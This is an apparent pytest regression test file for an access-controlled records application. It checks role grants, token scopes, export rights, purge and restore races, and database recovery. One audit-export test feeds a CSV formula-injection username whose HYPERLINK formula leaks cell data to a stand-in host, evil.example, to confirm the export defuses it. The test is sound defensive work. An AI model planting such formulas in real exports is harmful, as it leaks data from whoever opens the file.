"""Regression tests for the integrity and access defects found by outside testing."""
from __future__ import annotations

import sqlite3

import pytest

from formwarden import db
from formwarden.access.actor import Actor
from formwarden.auth.users import actor_for
from formwarden.catalog import publishing
from formwarden.errors import Forbidden, Invalid, NotFound
from formwarden.models import AuditEvent
from formwarden.records import history, service
from formwarden.records.query import ListQuery
from tests.conftest import VALID_CUSTOMER, actor_of


def test_a_purged_newest_id_is_never_handed_out_again(clean_db):
    admin = actor_of("admin")
    old = service.create_record(admin, "customer", {**VALID_CUSTOMER, "owner": "sales02", "notes": "secret"})
    service.delete_record(admin, "customer", old.id)
    service.purge_record(admin, "customer", old.id, reason="gone")
    new = service.create_record(actor_of("sales01"), "customer", {**VALID_CUSTOMER, "name": "新客户"})
    assert new.id > old.id
    entries = history.history(actor_of("sales01"), "customer", new.id)
    assert [e.action for e in entries] == ["create"]
    assert "secret" not in str([e.as_api() for e in entries])


def test_ids_stay_above_every_id_the_audit_trail_names(clean_db):
    """Even after the record table is emptied (as a restore or a purge of everything would),
    the next id is above every id any event mentions."""
    admin = actor_of("admin")
    first = service.create_record(admin, "customer", dict(VALID_CUSTOMER))
    service.delete_record(admin, "customer", first.id)
    service.purge_record(admin, "customer", first.id)
    again = service.create_record(admin, "customer", dict(VALID_CUSTOMER))
    assert again.id > first.id
    top = AuditEvent.select(AuditEvent.record_id).order_by(AuditEvent.record_id.desc()).scalar()
    assert top == again.id


def test_history_starts_at_the_records_own_creation(clean_db):
    """Events left over for an id (a pre-migration database reused it) never reach the new record."""
    admin = actor_of("admin")
    rec = service.create_record(admin, "customer", dict(VALID_CUSTOMER))
    with db.write_transaction():
        AuditEvent.update(record_id=rec.id + 1000).where(AuditEvent.record_id == rec.id).execute()
    planted = service.create_record(admin, "customer", dict(VALID_CUSTOMER))
    with db.write_transaction():
        AuditEvent.update(record_id=planted.id).where(AuditEvent.record_id == rec.id + 1000).execute()
    entries = history.history(admin, "customer", planted.id)
    assert [e.action for e in entries] == ["create"] and entries[0].seq > 1


# --- rights per record, per role grant ----------------------------------------------------

def _customer(owner: str, **extra):
    return service.create_record(actor_of("admin"), "customer",
                                 {**VALID_CUSTOMER, "owner": owner, "notes": f"notes of {owner}", **extra})


def test_two_roles_never_mix_one_roles_scope_with_anothers_fields(make_user):
    """support (all records, no notes) + sales (own records, notes): notes only on own records."""
    user = make_user(roles=("support", "sales"))
    who = actor_for(user)
    theirs = _customer("sales02")
    mine = _customer(user.username)
    assert "notes" not in service.get_record(who, "customer", theirs.id).data
    assert service.get_record(who, "customer", mine.id).data["notes"] == f"notes of {user.username}"
    page = service.list_records(who, "customer", ListQuery(per_page=200))
    by_id = {v.id: v.data for v in page.items}
    assert "notes" not in by_id[theirs.id] and by_id[mine.id]["notes"]
    # filtering and sorting on notes only ever look at records whose grants show notes
    hit = service.list_records(who, "customer", ListQuery(filters=[("notes", ["notes of sales02"])]))
    assert hit.total == 0
    own = service.list_records(who, "customer", ListQuery(filters=[("notes", [f"notes of {user.username}"])]))
    assert [v.id for v in own.items] == [mine.id]
    assert {v.id for v in service.list_records(who, "customer", ListQuery(sort_field="notes")).items} == {mine.id}


def test_history_of_a_two_role_user_follows_the_records_grants(make_user):
    user = make_user(roles=("support", "sales"))
    rec = _customer("sales02")
    service.update_record(actor_of("admin"), "customer", rec.id, {"notes": "new secret"}, expected_version=1,
                          reason="called the boss")
    entries = history.history(actor_for(user), "customer", rec.id)
    body = str([e.as_api() for e in entries])
    assert "secret" not in body and "notes of" not in body and "called the boss" not in body
    assert [e.action for e in entries] == ["create"]


def test_two_role_user_cannot_write_through_another_roles_scope(make_user):
    """support+intern: intern writes notes on own records only; support reads everyone's."""
    who = actor_for(make_user(roles=("support", "intern")))
    rec = _customer("sales02")
    with pytest.raises(Forbidden):
        service.update_record(who, "customer", rec.id, {"notes": "planted"}, expected_version=1)


def test_team_writer_cannot_plant_or_give_away_records(make_user):
    boss = actor_for(make_user(roles=("manager",), teams=("华东销售",)))
    with pytest.raises(Invalid) as exc:
        service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "sales11"})
    with pytest.raises(Invalid) as unknown:
        service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "nobody_such"})
    # the same answer as for a name that does not exist: no probing for usernames
    assert (exc.value.code, exc.value.message) == (unknown.value.code, unknown.value.message) == (
        "unknown_user", "no active user you may give records to by that name")
    ok = service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "sales01"})
    with pytest.raises(Invalid):
        service.update_record(boss, "customer", ok.id, {"owner": "sales11"}, expected_version=1)
    with pytest.raises(Invalid):  # nor blanked: a record always has an owner
        service.update_record(boss, "customer", ok.id, {"owner": None}, expected_version=1)
    assert service.update_record(boss, "customer", ok.id, {"owner": "sales02"}, expected_version=1).version == 2
    with pytest.raises(NotFound):  # a South team record stays out of reach
        service.get_record(boss, "customer", _customer("sales12").id)


def test_team_writer_cannot_give_away_by_bulk_or_import(make_user):
    from formwarden.records import bulk

    boss = actor_for(make_user(roles=("manager",), teams=("华东销售",)))
    rec = service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "sales01"})
    with pytest.raises(Invalid):
        bulk.bulk_update(boss, "customer", [rec.id], {"owner": "sales15"})
    rows = bulk.read_csv(bulk.versions.current("customer")[1], "name,status,owner\n甲,lead,sales01\n乙,lead,sales16\n")
    with pytest.raises(Exception) as exc:
        bulk.import_rows(boss, "customer", rows, source="t.csv")
    assert "owner" in str(getattr(exc.value, "details", "")) or getattr(exc.value, "field", "") == "owner"


def test_export_uses_the_export_grants(make_user, tmp_path):
    """finance (all, export: company/amount/status) + sales (own, no export): the export carries
    only what the export grant shows, even of the user's own records."""
    from formwarden.records.export import export_csv

    user = make_user(roles=("finance", "sales"))
    who = actor_for(user)
    _customer(user.username)
    _customer("sales03")
    path = tmp_path / "out.csv"
    assert export_csv(who, "customer", ListQuery(), path) == 2
    text = path.read_text("utf-8-sig")
    assert "notes of" not in text and "测试客户" not in text and "测试公司" in text


def test_export_scope_not_read_scope_decides(make_user, tmp_path):
    """manager+support: support reads all records but cannot export; the manager exports its team."""
    from formwarden.records.export import export_csv

    who = actor_for(make_user(roles=("manager", "support"), teams=("华东销售",)))
    _customer("sales01")
    _customer("sales15")
    path = tmp_path / "out.csv"
    assert export_csv(who, "customer", ListQuery(), path) == 1


# --- tokens and jobs narrow everything ------------------------------------------------------

def _token(username: str, scopes: str) -> str:
    from formwarden.auth.tokens import create_token
    from formwarden.models import User

    return create_token(actor_of("admin"), User.get(User.username == username), scopes=scopes.split(","))[1]


def test_a_token_narrows_platform_permissions(app, clean_db):
    c = app.test_client()
    read_only = {"Authorization": f"Bearer {_token('admin', 'read')}"}
    assert c.get("/api/v1/audit/events", headers=read_only).status_code == 403
    rec = _customer("sales01")
    service.delete_record(actor_of("admin"), "customer", rec.id)
    assert c.delete(f"/api/v1/forms/customer/records/{rec.id}/purge", headers=read_only).status_code == 403
    audit = {"Authorization": f"Bearer {_token('admin', 'audit')}"}
    assert c.get("/api/v1/audit/events", headers=audit).status_code == 200
    assert c.get("/api/v1/forms/customer/records", headers=audit).status_code == 403  # no record scope
    for scopes in ("purge", "contract:delete,purge", "customer:delete"):  # both, and for this form
        other = {"Authorization": f"Bearer {_token('admin', scopes)}"}
        assert c.delete(f"/api/v1/forms/customer/records/{rec.id}/purge", headers=other).status_code in (403, 404)
    purge = {"Authorization": f"Bearer {_token('admin', 'customer:read,customer:delete,purge')}"}
    assert c.delete(f"/api/v1/forms/customer/records/{rec.id}/purge", headers=purge).status_code in (200, 204)


def test_tokens_are_accepted_on_the_api_only(app, clean_db):
    c = app.test_client()
    headers = {"Authorization": f"Bearer {_token('admin', 'read,audit')}"}
    for path in ("/", "/f/customer/", "/audit", "/alerts"):
        r = c.get(path, headers=headers)
        assert r.status_code == 401, path
        assert b"token" in r.data


def test_the_server_chooses_the_request_id(app, clean_db):
    c = app.test_client()
    headers = {"Authorization": f"Bearer {_token('sales01', 'read,write')}", "X-Request-Id": "job:forged"}
    r = c.post("/api/v1/forms/customer/records", json={"data": dict(VALID_CUSTOMER)}, headers=headers)
    assert r.status_code == 201, r.json
    assert r.headers["X-Request-Id"] != "job:forged"
    last = AuditEvent.select().order_by(AuditEvent.seq.desc()).first()
    assert last.request_id == r.headers["X-Request-Id"] and not last.request_id.startswith("job:")


def test_a_job_keeps_the_tokens_scopes_and_identity(clean_db, tmp_path):
    """An export started with a token acts as that token (name, IP, agent), and a revoked token
    stops its job."""
    from formwarden.auth.tokens import authenticate_token, revoke_token
    from formwarden.auth.users import actor_for_job

    raw = _token("manager", "read,export")
    user, token = authenticate_token(raw)
    origin = actor_for(user, token=token, ip="203.0.113.9", user_agent="partner-sync/1.0").origin()
    job_actor = actor_for_job(user.id, origin, "j1")
    assert job_actor.token_scopes == frozenset({"read", "export"}) and job_actor.ip == "203.0.113.9"
    assert "token" in job_actor.name and job_actor.user_agent == "partner-sync/1.0"
    revoke_token(actor_of("admin"), token)
    with pytest.raises(Forbidden):
        actor_for_job(user.id, origin, "j2")


def test_export_file_is_private_and_each_download_is_audited(login_as, clean_db):
    import os
    import stat

    from formwarden.models import JobRun
    from formwarden.records.export import export_csv

    _customer("sales01")
    c = login_as("manager")
    path = clean_db.instance / "exports" / "t.csv"
    path.parent.mkdir(exist_ok=True)
    export_csv(actor_of("manager"), "customer", ListQuery(), path)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    from formwarden.access.gate import access_fingerprint

    made_under = access_fingerprint(actor_of("manager"), service.versions.current("customer")[1])
    run = JobRun.create(job_id="dl1", kind="export", requested_by=actor_of("manager").user_id,
                        params=f'{{"form": "customer", "made_under": "{made_under}"}}', status="done",
                        result_path=str(path))
    assert c.get("/jobs/dl1/download").status_code == 200
    assert AuditEvent.select().where(AuditEvent.action == "export_download").count() == 1
    from formwarden.auth.users import change_role  # the right goes: the file goes with it
    change_role(actor_of("admin"), "manager", "manager", grant=False)
    try:
        assert c.get("/jobs/dl1/download").status_code in (403, 404)
    finally:
        change_role(actor_of("admin"), "manager", "manager", grant=True)
    JobRun.update(created_at=run.created_at.replace(year=2020)).where(JobRun.id == run.id).execute()
    assert c.get("/jobs/dl1/download").status_code == 404 and not path.exists()


def test_database_file_is_private(clean_db, tmp_path):
    """Opening a SQLite database (the embedded default, whatever this run's database is) makes
    its file, and the WAL files SQLite gives the same mode, the owner's only."""
    import os
    import stat

    path = tmp_path / "private.db"
    other = db.make_database(f"sqlite:///{path}")
    other.connect()
    other.execute_sql("CREATE TABLE t (x)")
    assert {stat.S_IMODE(os.stat(f).st_mode) for f in tmp_path.iterdir()} == {0o600}
    other.close()
    path.chmod(0o644)  # an existing file from before is made private when opened
    db.make_database(f"sqlite:///{path}")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


# --- delete, restore and purge decide inside their transaction --------------------------------

def test_purge_never_removes_a_record_restored_meanwhile(clean_db, monkeypatch):
    from formwarden.errors import Conflict

    admin = actor_of("admin")
    rec = _customer("sales01")
    service.delete_record(admin, "customer", rec.id)
    real_load = service._load

    def load_then_restore(form, record_id, *, deleted=False):
        loaded = real_load(form, record_id, deleted=deleted)
        monkeypatch.setattr(service, "_load", real_load)
        service.restore_record(admin, "customer", record_id)  # wins the race
        return loaded

    monkeypatch.setattr(service, "_load", load_then_restore)
    with pytest.raises(Conflict):
        service.purge_record(admin, "customer", rec.id)
    assert service.get_record(admin, "customer", rec.id).id == rec.id
    assert AuditEvent.select().where(AuditEvent.action == "purge").count() == 0


def test_restore_after_purge_leaves_no_event(clean_db, monkeypatch):
    from formwarden.errors import Conflict

    admin = actor_of("admin")
    rec = _customer("sales01")
    service.delete_record(admin, "customer", rec.id)
    real = service.load_in_scope

    def load_then_purge(*a, **kw):
        loaded = real(*a, **kw)
        monkeypatch.setattr(service, "load_in_scope", real)
        service.purge_record(admin, "customer", rec.id)
        return loaded

    monkeypatch.setattr(service, "load_in_scope", load_then_purge)
    with pytest.raises(Conflict):
        service.restore_record(admin, "customer", rec.id)
    assert AuditEvent.select().where(AuditEvent.action == "restore").count() == 0


# --- survive the database ---------------------------------------------------------------------

class _DeadConnection:
    """What a SQLite connection on a failed disk answers: an operational error for everything."""

    def __getattr__(self, name):
        def fail(*a, **kw):
            raise sqlite3.OperationalError("disk I/O error")
        return fail


def _break_connection():
    """This thread's connection dies under us: PostgreSQL ends the session (a restart or a
    failover does that), a SQLite connection starts failing every statement."""
    if db.is_postgres():
        import psycopg2

        pid = db.database.execute_sql("SELECT pg_backend_pid()").fetchone()[0]
        other = psycopg2.connect(dbname=db.database.obj.database, **db.database.obj.connect_params)
        other.autocommit = True
        other.cursor().execute("SELECT pg_terminate_backend(%s)", (pid,))
        other.close()
    else:
        db.database.obj._state.conn = _DeadConnection()


def test_a_dropped_connection_is_replaced(login_as, monkeypatch):
    """The next request after the connection died still works: it is checked after being idle."""
    c = login_as("sales01")
    assert c.get("/api/v1/forms/customer/records").status_code == 200
    _break_connection()
    monkeypatch.setattr(db, "_IDLE_CHECK", 0.0)
    assert c.get("/api/v1/forms/customer/records").status_code == 200


def test_a_lost_connection_mid_request_is_a_503_then_recovers(login_as, monkeypatch):
    c = login_as("sales01")
    monkeypatch.setattr(db, "_IDLE_CHECK", 3600.0)  # no check: the request meets the dead connection
    _break_connection()
    r = c.get("/api/v1/forms/customer/records")
    assert r.status_code == 503 and r.json["error"]["code"] == "database_unavailable"
    assert c.get("/api/v1/forms/customer/records").status_code == 200


def test_only_known_audit_actions_are_written(clean_db):
    from formwarden.audit import record_event

    with pytest.raises(ValueError), db.write_transaction():
        record_event(actor_of("admin"), "made_up")


def test_bulk_and_single_updates_never_deadlock(clean_db):
    """A bulk change locks rows one by one; single updates of the same rows run beside it."""
    import threading

    from formwarden.errors import Conflict
    from formwarden.records import bulk

    admin = actor_of("admin")
    ids = [_customer("sales01").id for _ in range(30)]
    errors: list[Exception] = []

    def run(steps):
        db.ensure_connection()
        try:
            for step in steps:
                try:
                    step()
                except Conflict:
                    pass  # the optimistic version check: the caller reloads and retries
        except Exception as exc:  # noqa: BLE001 - collected for the assertion (a deadlock lands here)
            errors.append(exc)
        finally:
            db.database.close()

    def bulk_side():
        run([lambda n=n: bulk.bulk_update(admin, "customer", ids, {"notes": f"bulk {n}"}) for n in range(3)])

    def single_side():
        run([lambda rid=rid, v=v: service.update_record(admin, "customer", rid, {"region": v}, expected_version=None)
             for rid in reversed(ids * 3) for v in ("east", None)])

    threads = [threading.Thread(target=bulk_side), threading.Thread(target=single_side)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert errors == []


def test_forwarded_ip_is_believed_only_from_a_trusted_proxy(app, clean_db, monkeypatch):
    import dataclasses

    c = app.test_client()
    headers = {"Authorization": f"Bearer {_token('sales01', 'read,write')}",
               "X-Forwarded-For": "198.51.100.7, 203.0.113.5"}

    def create_and_ip():
        r = c.post("/api/v1/forms/customer/records", json={"data": dict(VALID_CUSTOMER)}, headers=headers)
        assert r.status_code == 201
        return AuditEvent.select().order_by(AuditEvent.seq.desc()).first().ip

    assert create_and_ip() == "127.0.0.1"  # no proxy configured: the header is the client's word
    settings = app.config["FORMWARDEN"]
    monkeypatch.setitem(app.config, "FORMWARDEN", dataclasses.replace(settings, trusted_proxies=("127.0.0.0/8",)))
    assert create_and_ip() == "203.0.113.5"  # the nearest hop the trusted proxy saw
    monkeypatch.setitem(app.config, "FORMWARDEN",
                        dataclasses.replace(settings, trusted_proxies=("127.0.0.1", "203.0.113.0/24")))
    assert create_and_ip() == "198.51.100.7"  # a chain of trusted proxies


def test_trusted_proxies_setting_is_checked():
    from formwarden.config import ConfigError, load_settings

    env = {"FORMWARDEN_INSTANCE": "/tmp/x", "SECRET_KEY": "k", "FORMWARDEN_TRUSTED_PROXIES": "10.0.0.0/8, nonsense"}
    with pytest.raises(ConfigError):
        load_settings(env)
    env["FORMWARDEN_TRUSTED_PROXIES"] = "10.0.0.0/8, ::1"
    assert load_settings(env).trusted_proxies == ("10.0.0.0/8", "::1")


@pytest.mark.parametrize("value", ["99999999999999999999999", "-9223372036854775809", "1e400", "nan", "inf", "٣"])
def test_filter_values_out_of_range_are_422_naming_the_field(login_as, value):
    c = login_as("admin")
    for name in ("customer_id", "contract_amount"):
        form = "followup" if name == "customer_id" else "customer"
        r = c.get(f"/api/v1/forms/{form}/records", query_string={f"filter[{name}]": value})
        if name == "contract_amount" and value == "٣":
            continue  # float() reads Arabic-Indic digits; harmless
        assert r.status_code == 422, (name, value, r.status_code)
        assert r.json["error"]["field"] == name


def test_a_form_whose_field_type_did_not_load_takes_no_writes(login_as, monkeypatch):
    from formwarden.forms.registry import field_types

    rec = _customer("sales01")
    mobile_type = next(fd.format for fd in service.versions.current("customer")[1].fields.values()
                       if fd.name == "mobile")
    monkeypatch.delitem(field_types._types, mobile_type)
    c = login_as("admin")
    r = c.post("/api/v1/forms/customer/records", json={"data": {**VALID_CUSTOMER, "mobile": "not a phone"}})
    assert r.status_code == 503 and r.json["error"]["code"] == "field_type_unavailable"
    assert r.json["error"]["field"] == "mobile"
    r = c.patch(f"/api/v1/forms/customer/records/{rec.id}", json={"data": {"name": "改"}}, headers={"If-Match": '"1"'})
    assert r.status_code == 503
    assert c.get(f"/api/v1/forms/customer/records/{rec.id}").status_code == 200  # reads go on


def test_a_field_no_longer_restricted_never_shows_ciphertext_and_is_opened(clean_db):
    import copy
    import json as _json

    from formwarden.config import REPO_ROOT
    from formwarden.models import Record
    from formwarden.records.reseal import pending_forms, reseal_batch

    admin = actor_of("admin")
    rec = _customer("sales01", id_number="11010519491231002X")
    assert "$enc" in _json.dumps(Record.get_by_id(rec.id).data)
    original = _json.loads((REPO_ROOT / "form_defs" / "customer.json").read_text("utf-8"))
    relaxed = copy.deepcopy(original)
    relaxed["properties"]["id_number"]["x-sensitivity"] = "confidential"
    try:
        publishing.publish(admin, relaxed)
        view = service.get_record(admin, "customer", rec.id)
        assert view.data["id_number"] == "11010519491231002X"  # opened for the reader, not an envelope
        form, formdef, names = next(p for p in pending_forms() if p[0].key == "customer")
        reseal_batch(Actor.system("tests"), form, formdef, names, 0)
        assert Record.get_by_id(rec.id).data["id_number"] == "11010519491231002X"
    finally:
        publishing.publish(admin, original)
    form, formdef, names = next(p for p in pending_forms() if p[0].key == "customer")
    reseal_batch(Actor.system("tests"), form, formdef, names, 0)
    assert "$enc" in _json.dumps(Record.get_by_id(rec.id).data)  # restricted again: sealed again


def test_an_export_is_not_handed_out_once_one_of_two_roles_is_revoked(login_as, make_user, clean_db, tmp_path):
    """manager (East team) + finance (all records): the file holds every team's amounts; after
    finance is revoked the same person may no longer have it."""
    from formwarden.access.gate import access_fingerprint
    from formwarden.auth.users import change_role
    from formwarden.models import JobRun
    from formwarden.records.export import export_csv

    user = make_user(roles=("manager", "finance"), teams=("华东销售",))
    _customer("sales15")
    path = clean_db.instance / "exports" / "two.csv"
    path.parent.mkdir(exist_ok=True)
    who = actor_for(user)
    assert export_csv(who, "customer", ListQuery(), path) == 1
    JobRun.create(job_id="dl2", kind="export", requested_by=user.id, status="done", result_path=str(path),
                  params=f'{{"form": "customer", "made_under": "{access_fingerprint(who, service.versions.current("customer")[1])}"}}')
    c = login_as(user.username)
    assert c.get("/jobs/dl2/download").status_code == 200
    change_role(actor_of("admin"), user.username, "finance", grant=False)
    r = c.get("/jobs/dl2/download")
    assert r.status_code == 403 and "测试公司" not in r.get_data(as_text=True)



# --- found by the outside attack of this change ----------------------------------------------

def test_audit_csv_defuses_every_text_cell(login_as, anon):
    anon.refresh_csrf()
    anon.post("/login", data={"username": '=HYPERLINK("http://evil.example/?"&C2,"x")', "password": "p",
                              "csrf_token": anon.csrf})
    text = login_as("admin").get("/audit/export.csv?action=login_failed").get_data(as_text=True)
    assert "HYPERLINK" in text and ',"=HYPERLINK' not in text and "'=HYPERLINK" in text


@pytest.mark.parametrize("value", ["NaN", "nan", "inf", "-Infinity", "1_000", "１２", "1e999"])
def test_form_number_input_is_checked_before_it_reaches_storage(login_as, value):
    c = login_as("admin")
    data = {"_present": ["name", "status", "contract_amount"], "name": "x", "status": "negotiating",
            "contract_amount": value, "csrf_token": c.csrf}
    r = c.post("/f/customer/new", data=data)
    assert r.status_code == 422


def test_bulk_summary_reason_is_shown_only_to_who_sees_the_fields(login_as, clean_db):
    from formwarden.records import bulk

    rec = _customer("sales01", status="negotiating")  # the amount shows while negotiating
    bulk.bulk_update(actor_of("admin"), "customer", [rec.id], {"contract_amount": 1.5}, reason="REASON-BULK")
    bulk.bulk_delete(actor_of("admin"), "customer", [rec.id], reason="REASON-DEL")
    body = login_as("auditor").get("/api/v1/audit/events?per_page=200").get_data(as_text=True)
    assert "REASON-BULK" not in body and "REASON-DEL" not in body
    admin = login_as("admin").get("/api/v1/audit/events?per_page=200").get_data(as_text=True)
    assert "REASON-BULK" in admin and "REASON-DEL" in admin


def test_a_stale_revert_is_409_whatever_the_hidden_fields(clean_db):
    from formwarden.errors import Conflict

    admin = actor_of("admin")
    rec = _customer("sales01", id_number="11010519491231002X")
    service.update_record(admin, "customer", rec.id, {"id_number": "110101199003074477"}, expected_version=1)
    with pytest.raises(Conflict):
        history.revert_record(actor_of("sales01"), "customer", rec.id, 1, expected_version=999)


def test_audit_search_date_out_of_range_names_the_field(login_as):
    r = login_as("admin").get("/api/v1/audit/events?until=9999-12-31")
    assert r.status_code == 422 and r.json["error"]["field"] == "until"


def test_forms_offer_only_owners_inside_the_writers_scope(login_as, make_user):
    east = make_user(roles=("manager",), teams=("华东销售",))
    page = login_as(east.username).get("/f/customer/new").get_data(as_text=True)
    assert 'value="sales01"' in page and ">张伟（销售）<" in page  # offered by display name
    assert 'value="sales11"' not in page and 'value="auditor"' not in page


def test_one_thread_can_work_on_a_second_database(clean_db, tmp_path):
    """A restore check needs a staging database beside the live one in the same process: models,
    hand-written statements, transactions and the per-database caches all follow the switch."""
    import threading

    from formwarden.config import REPO_ROOT
    from formwarden.forms import versions
    from formwarden.models import Record

    live = _customer("sales01")
    seen_elsewhere = []
    with db.using(f"sqlite:///{tmp_path / 'staging.db'}"):
        db.upgrade()
        publishing.load_directory(Actor.system("tests"), REPO_ROOT / "form_defs")
        from formwarden.demo import ensure_people

        ensure_people("staging-pass-1")
        staged = service.create_record(actor_of("admin"), "customer", {**VALID_CUSTOMER, "name": "暂存"})
        assert [r.id for r in Record.select()] == [staged.id]
        assert versions.current("customer")[0].current_version == 1
        thread = threading.Thread(target=lambda: (db.ensure_connection(), seen_elsewhere.append(
            sorted(r.id for r in Record.select())), db.database.close()))
        thread.start()
        thread.join()
    assert seen_elsewhere == [[live.id]]  # other threads kept the live database
    assert [r.id for r in Record.select()] == [live.id]
    assert service.get_record(actor_of("admin"), "customer", live.id).data["name"] == VALID_CUSTOMER["name"]


def test_history_lists_changes_in_the_order_people_see_the_fields(clean_db):
    formdef = service.versions.current("customer")[1]
    rec = _customer("sales01")
    changes = history.history(actor_of("admin"), "customer", rec.id)[0].changes
    assert list(changes) == [f for f in formdef.layout_order if f in changes]
    assert list(changes)[0] == "name" and list(changes) != sorted(changes)
